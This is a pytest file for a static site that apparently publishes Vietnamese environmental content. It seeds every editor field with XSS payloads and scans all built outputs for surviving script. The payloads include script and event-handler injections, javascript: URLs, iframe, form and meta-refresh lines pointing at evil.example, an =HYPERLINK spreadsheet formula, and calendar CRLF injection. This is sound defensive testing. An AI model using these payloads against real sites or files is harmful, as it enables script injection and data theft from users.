"""A corpus of XSS payloads in every editor-written string; none survives into any output file.

The payloads go into front matter (titles, summaries, authors, alt texts, places, organisers,
plan numbers, legal bases, tasks, units, deadlines, activities), topic and observance names, and
Markdown bodies (raw HTML and Markdown links). The site is built for real and EVERY file it
writes is scanned with a checker for its type: HTML pages, feeds (the HTML inside them too),
the search index (Material shows it as HTML), JSON-LD, calendars, CSV, JSON and static assets.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
from html import escape as html_escape
from collections import Counter
from pathlib import Path
from urllib.parse import urlsplit

import icalendar
import lxml.etree
import lxml.html
import pytest

from helpers import REPO, make_project, run_build

MARK = "XSS8"
PAYLOADS = [
    f'<script>alert("{MARK}")</script>',
    f'"><script>alert("{MARK}")</script>',
    f"'><img src=x onerror=alert('{MARK}')>",
    f'<img src=x onerror="alert(`{MARK}`)">',
    f'<svg/onload=alert("{MARK}")>',
    f'</script><script>alert("{MARK}")</script>',
    f'</title><script>alert("{MARK}")</script>',
    f'<iframe src="https://evil.example/{MARK}"></iframe>',
    f"<a href=\"javascript:alert('{MARK}')\">{MARK}</a>",
    f']]><script>alert("{MARK}")</script><![CDATA[',
    f'<style>body{{background:url("https://evil.example/{MARK}")}}</style>',
    f'javascript:alert("{MARK}")',
    f'&lt;script&gt;alert("{MARK}")&lt;/script&gt;',
    f'\u2028<!--<script>alert("{MARK}")</script>',
    f'<math><mtext><table><mglyph><style><img src=x onerror=alert("{MARK}")>',
    f'=HYPERLINK("https://evil.example/{MARK}","bấm")',
    f"Lễ\r\nX-INJECT-{MARK}:1\nBEGIN:VEVENT",
    f'{{{{ config.site_name }}}}{{% if true %}}{MARK}{{% endif %}}',
]
BODY_PAYLOADS = [
    f'<script>alert("{MARK}")</script>',
    f"<img src=anh/a.png alt=ảnh onerror=alert('{MARK}')>",
    f'<svg onload=alert("{MARK}")><circle r="1"/></svg>',
    f'[bấm](javascript:alert("{MARK}"))',
    f'<a href="javascript:alert(\'{MARK}\')">Văn bản gốc của kế hoạch</a>',
    f'<a href="JaVaScRiPt:alert(&quot;{MARK}&quot;)">Báo cáo tổng kết năm</a>',
    # (An embed from a host not allowed stops the build at its line: tests/unit/test_editor_mistakes.py.)
    f'<iframe src="https://www.youtube-nocookie.com/embed/x" onload="alert(\'{MARK}\')" title="{MARK}"></iframe>',
    f'<iframe srcdoc="<script>alert(\'{MARK}\')</script>"></iframe>',
    f'<p style="position:fixed;background:url(https://evil.example/{MARK})" onclick="alert(\'{MARK}\')">p</p>',
    f'<form action="https://evil.example/{MARK}"><input name="q"></form>',
    # (Media from another host is refused at its line before any build: tests/unit/test_body_links.py.)
    f'<object data="anh/a.png#{MARK}"></object><embed src="anh/a.png">',
    f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARK}"><base href="https://evil.example/">',
    f'<noscript><p title="</noscript><img src=anh/a.png alt=x onerror=alert(\'{MARK}\')>"></noscript>',
    f'<details open ontoggle="alert(\'{MARK}\')"><summary>x</summary></details>',
    f'<div id="__search" data-x="{MARK}">x</div>',
    '<iframe src="https://www.youtube-nocookie.com/embed/abc123" title="Phim tư liệu"></iframe>',
]
ALLOWED_IFRAME_HOSTS = {"www.youtube-nocookie.com", "www.youtube.com"}
def _toggles_form(element) -> bool:  # type: ignore[no-untyped-def]
    """overrides/base.html's empty form holding `autocomplete="off"` for the drawer and search
    toggles: no action, no field, nothing it could submit."""
    return (element.get("id") == "__toggles" and element.get("action") is None and len(element) == 0
            and not (element.text or "").strip() and set(element.attrib) == {"id", "autocomplete", "hidden"})


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "srcset", "xlink:href",
                  "{http://www.w3.org/1999/xlink}href", "cite", "longdesc", "manifest", "ping"}
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
    b"\x00\x00\x00\x0cIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\r\xefF\xb8\x00\x00\x00\x00IEND\xaeB`\x82"
)


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


def corpus() -> dict[str, str | bytes]:
    """Content files carrying every payload in every editor-written string."""
    body = "Đoạn mở đầu của bài.\n\n" + "\n\n".join(BODY_PAYLOADS) + "\n"
    topics = "".join(
        f"- slug: {slug}\n  name: {q(name + ' ' + PAYLOADS[i])}\n  description: {q(PAYLOADS[-1 - i])}\n"
        for i, (slug, name) in enumerate([("moi-truong", "Môi trường"), ("tai-nguyen-nuoc", "Tài nguyên nước")])
    )
    files: dict[str, str | bytes] = {
        "topics.yml": topics,
        "observances.yml": "".join(
            f"- title: {q('Ngày ' + p)}\n  date: \"06-{5 + i:02d}\"\n  topics: [moi-truong]\n"
            f"  description: {q(p)}\n" for i, p in enumerate(PAYLOADS[:3])),
        # The body's raw HTML images point at a real file beside each kind's files.
        **{f"{folder}/anh/a.png": PNG for folder in ("articles", "campaigns", "plans", "events")},
    }
    for i, p in enumerate(PAYLOADS):
        files[f"articles/bai-{i:02d}.md"] = (
            f"---\ntitle: {q(f'Tin {i} ' + p)}\ndate: 2024-06-{1 + i % 15:02d}\ntopics: [moi-truong, tai-nguyen-nuoc]\n"
            f"summary: {q(p)}\nauthor: {q(p)}\nimage: anh/a.png\nimage_alt: {q('Ảnh ' + p)}\n"
            f"campaign: chien-dich-{i:02d}\nplan: ke-hoach-{i:02d}\n---\n\n{body}"
        )
        files[f"campaigns/cd-{i:02d}.md"] = (
            f"---\ntitle: {q(f'Chiến dịch {i} ' + p)}\nslug: chien-dich-{i:02d}\nstart: 2024-06-01\nend: 2024-07-30\n"
            f"topics: [moi-truong]\nsummary: {q(p)}\ntheme: {q(p)}\norganizer: {q(p)}\n"
            f"activities:\n  - title: {q('Hoạt động ' + p)}\n    date: 2024-06-{20 + i % 9:02d} 08:00\n"
            f"    location: {q(p)}\n    description: {q(p)}\n---\n\n{body}"
        )
        files[f"plans/kh-{i:02d}.md"] = (
            f"---\ntitle: {q(f'Kế hoạch {i} ' + p)}\nslug: ke-hoach-{i:02d}\nissued: 2024-05-{1 + i:02d}\n"
            f"issuer: {q('Sở ' + p)}\nnumber: {q(f'{i + 1}/KH-STNMT ' + p)}\nsigner: {q(p)}\nsigner_title: {q(p)}\n"
            f"topics: [tai-nguyen-nuoc]\nsummary: {q(p)}\nbases:\n  - {q(p)}\n"
            f"tasks:\n  - task: {q(p)}\n    lead: {q('Phòng Quản lý ' + PAYLOADS[0])}\n"
            f"    partners: [{q(p)}]\n    form: {q(p)}\n    when: 2024-Q{1 + i % 4}\n"
            f"    campaign: chien-dich-{i:02d}\n"
            f"deadlines:\n  - date: 2024-07-{1 + i:02d}\n    what: {q(p)}\n---\n\n{body}"
        )
        files[f"events/sk-{i:02d}.md"] = (
            f"---\ntitle: {q(f'Sự kiện {i} ' + p)}\nstart: 2024-06-{20 + i % 9:02d} 08:00\n"
            f"end: 2024-06-{20 + i % 9:02d} 11:00\ntopics: [moi-truong]\nlocation: {q(p)}\n"
            f"organizer: {q(p)}\nsummary: {q(p)}\ncampaign: chien-dich-{i:02d}\nplan: ke-hoach-{i:02d}\n---\n\n{body}"
        )
    return files


# -- checkers ----------------------------------------------------------------------------------

def _dangerous_url(value: str) -> bool:
    squashed = re.sub(r"[\x00-\x20]+", "", value).lower()
    return squashed.startswith(("javascript:", "vbscript:", "data:text/html", "data:image/svg"))


def check_html(html: str, where: str) -> list[str]:
    """Return what in an HTML document (or fragment) could run script or load a foreign page."""
    found: list[str] = []
    if not html.strip():
        return found
    root = lxml.html.fromstring(f"<div>{html}</div>") if not html.lstrip().lower().startswith(("<!doctype", "<html")) \
        else lxml.html.document_fromstring(html)
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        for name, value in element.attrib.items():
            lname = name.lower()
            if lname.startswith("on"):
                found.append(f"{where}: <{tag} {name}=…> event handler")
            if lname in URL_ATTRIBUTES and _dangerous_url(value):
                found.append(f"{where}: <{tag} {name}={value!r}> script URL")
            if lname in ("style", "srcdoc") and MARK in value:
                found.append(f"{where}: <{tag} {name}> carries the payload")
        text = element.text or ""
        if tag == "script":
            if element.get("type") == "application/ld+json":
                try:
                    json.loads(text)
                except ValueError:
                    found.append(f"{where}: JSON-LD is not valid JSON (a string broke out): {text[:80]!r}")
                if "<" in text:
                    found.append(f"{where}: JSON-LD contains a raw '<'")
            elif MARK in text:
                found.append(f"{where}: <script> contains the payload")
        elif tag == "style" and MARK in text:
            found.append(f"{where}: <style> contains the payload")
        elif tag == "iframe":
            host = urlsplit(element.get("src", "")).hostname or ""
            if host not in ALLOWED_IFRAME_HOSTS:
                found.append(f"{where}: <iframe src={element.get('src')!r}>")
        elif tag in ("object", "embed", "applet", "base", "frame", "frameset"):
            found.append(f"{where}: <{tag}>")
        elif tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            found.append(f"{where}: <meta http-equiv=refresh>")
        elif tag == "form" and not (element.get("class") == "md-search__form"  # the site's search box
                                    and re.fullmatch(r"/?(?:\.\./)*(?:\./|linh-vuc/)?", element.get("action") or "")) \
                and not _toggles_form(element):
            found.append(f"{where}: <form action={element.get('action')!r}>")
        elif tag in ("svg", "math", "noscript") and MARK in lxml.html.tostring(element, encoding="unicode"):
            # noscript: browsers read its content as raw text, so an attribute can close it (mXSS).
            found.append(f"{where}: <{tag}> carries the payload")
        if element.get("id", "").startswith("__") and MARK in lxml.html.tostring(element, encoding="unicode"):
            found.append(f"{where}: content took Material's id {element.get('id')!r}")
    return found


ATOM = "{http://www.w3.org/2005/Atom}"
HTML_IN_XML = {"description", "{http://purl.org/rss/1.0/modules/content/}encoded"}


def check_xml(data: bytes, where: str) -> list[str]:
    """Feeds, sitemaps, OPML: well-formed, and the HTML they carry is safe."""
    try:
        root = lxml.etree.fromstring(data, lxml.etree.XMLParser(resolve_entities=False, no_network=True))
    except lxml.etree.XMLSyntaxError as error:
        return [f"{where}: not well-formed XML ({error})"]
    found: list[str] = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        is_html = element.tag in HTML_IN_XML or (
            element.tag.startswith(ATOM) and element.get("type") in ("html", "xhtml"))
        if is_html:
            inner = element.text or "".join(lxml.etree.tostring(c, encoding="unicode") for c in element)
            found += check_html(inner, f"{where} <{element.tag.split('}')[-1]}>")
    return found


def check_ics(data: bytes, where: str) -> list[str]:
    found: list[str] = []
    unfolded = re.sub(r"\r\n[ \t]", "", data.decode("utf-8"))
    for line in unfolded.split("\r\n"):
        if line.startswith(("X-INJECT", "BEGIN:VEVENTX")) or line.startswith(f"X-INJECT-{MARK}"):
            found.append(f"{where}: injected calendar line {line!r}")
    calendar = icalendar.Calendar.from_ical(data)
    begins = unfolded.count("\r\nBEGIN:VEVENT\r\n") + unfolded.startswith("BEGIN:VEVENT\r\n")
    if begins != len(calendar.walk("VEVENT")):
        found.append(f"{where}: VEVENT count differs between text and parser (injected component)")
    for component in calendar.walk():
        for name in component:
            if name.startswith("X-INJECT"):
                found.append(f"{where}: injected property {name}")
    return found


def check_csv(data: bytes, where: str) -> list[str]:
    """Spreadsheet formulas from content must not run when the table is opened in Excel."""
    found: list[str] = []
    text = data.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                found.append(f"{where}: cell starts a formula: {cell[:60]!r}")
    return found


def check_file(path: Path, rel: str) -> tuple[str, list[str]]:
    """Return (checker name, findings) for one output file."""
    data = path.read_bytes()
    name = path.name
    if name.endswith(".gz"):
        data = gzip.decompress(data)
        name = name[:-3]
    suffix = name.rsplit(".", 1)[-1].lower() if "." in name else ""
    if suffix == "html":
        return "html", check_html(data.decode("utf-8"), rel)
    if suffix in ("xml", "opml", "rss", "atom"):
        return "xml", check_xml(data, rel)
    if suffix == "json":
        json.loads(data)
        if rel.startswith("search/"):  # text only: the browser inserts it as text (see the test below)
            return "search", []
        return "json", []
    if rel == "quan-tri/config.yml":  # the web editor's choices: data (JSON) that Decap shows as text
        json.loads(data)
        return "json", []
    if suffix == "ics":
        return "ics", check_ics(data, rel)
    if suffix == "csv":
        return "csv", check_csv(data, rel)
    if suffix in ("js", "css", "txt", "map", "svg", "webmanifest"):
        return "static", [f"{rel}: contains the payload"] if MARK.encode() in data else []
    return "binary", []


# -- the test ----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    proj = make_project(tmp_path_factory.mktemp("xss"), corpus(), topics=str(corpus()["topics.yml"]))
    result = run_build(proj, "-d", str(proj / "out"))
    assert result.returncode == 0, result.stdout + result.stderr
    return proj / "out"


def test_no_payload_survives_into_any_output_file(built: Path):
    kinds: Counter[str] = Counter()
    findings: list[str] = []
    for path in sorted(p for p in built.rglob("*") if p.is_file()):
        rel = path.relative_to(built).as_posix()
        kind, found = check_file(path, rel)
        kinds[kind] += 1
        findings += found
    print(f"XSS corpus: {len(PAYLOADS)} front-matter payloads, {len(BODY_PAYLOADS)} body payloads; "
          f"scanned {sum(kinds.values())} files {dict(sorted(kinds.items()))}; {len(findings)} findings")
    assert findings == []
    # The scan covered every kind of output the site has.
    assert kinds["html"] > 100 and kinds["xml"] >= 4 and kinds["search"] >= 1 and kinds["ics"] >= 1
    assert kinds["csv"] >= 1


def test_payloads_reach_the_pages_as_plain_text(built: Path):
    """The strings are shown, escaped: the corpus is not passing because nothing was published."""
    page = next((built / "tin-tuc/2024/06").glob("tin-0-*/index.html"))
    doc = lxml.html.document_fromstring(page.read_bytes().decode("utf-8"))
    assert doc.xpath("//article//h1")[0].text_content().strip() == f"Tin 0 {PAYLOADS[0]}"
    assert doc.xpath("//title")[0].text_content().startswith(f"Tin 0 {PAYLOADS[0]}")
    body = lxml.html.tostring(doc.xpath("//*[contains(@class, 'portal-article__body')]")[0], encoding="unicode")
    assert '<iframe src="https://www.youtube-nocookie.com/embed/abc123" title="Phim tư liệu"></iframe>' in body
    assert "javascript" not in body.lower() and "<script" not in body
    # Material prints page titles unescaped in the header: it must show the text, not run a tag.
    header = doc.xpath("//*[contains(@class, 'md-header__topic')]")
    assert header and not any(e.xpath(".//script") for e in header)
    assert f"Tin 0 {PAYLOADS[0]}" in " ".join(e.text_content() for e in header)
    # Jinja syntax in content is text, never evaluated.
    jinja = next((built / "tin-tuc/2024/06").glob("tin-17-*/index.html")).read_bytes().decode("utf-8")
    assert "{{ config.site_name }}{% if true %}XSS8{% endif %}" in lxml.html.document_fromstring(jinja).xpath(
        "//article//h1")[0].text_content()


def test_search_results_insert_titles_and_texts_as_text(built: Path):
    """The search index keeps titles and texts as they are; the browser inserts them as text nodes
    (portal-search.js never parses a string as HTML), so a payload shows as the characters it is."""
    pages = [page for path in built.glob("search/*/p*.json") for page in json.loads(path.read_bytes())]
    titles = [page[1] for page in pages if MARK in page[1]]
    assert titles, "the payload titles are in the search index"
    assert any(t.startswith("Tin 0 <script>alert(") for t in titles)  # text, shown as such
    script = (REPO / "docs/assets/js/portal-search.js").read_text(encoding="utf-8")
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "Function("):
        assert sink not in script, sink


ACTIVE = [  # payloads that act when left unescaped in a page (a comment or an allowed embed does not)
    p for p in PAYLOADS + BODY_PAYLOADS
    if re.search(r"<(script|img|svg|iframe|a|p|form|object|meta|details|math|noscript)\b", p)
    and not p.startswith("\u2028<!--") and "youtube-nocookie" not in p
]


@pytest.mark.parametrize("payload", ACTIVE)
def test_the_checker_catches_each_payload_left_unescaped(payload: str):
    """If a template forgot `| e` (or the sanitiser let a tag through), the scan would report it."""
    page = f"<!doctype html><html><head><title>x</title></head><body><h1>{payload}</h1></body></html>"
    assert check_html(page, "page") != []
    feed = f"<rss><channel><item><description>{html_escape(payload)}</description></item></channel></rss>"
    assert check_xml(feed.encode("utf-8"), "feed") != []


def test_the_checker_catches_calendar_and_csv_injection():
    injected = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:L\r\nX-INJECT-XSS8:1\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    assert check_ics(injected, "a.ics") != []
    assert check_csv('"Nhiệm vụ"\r\n"=HYPERLINK(""https://evil.example"")"\r\n'.encode("utf-8"), "a.csv") != []
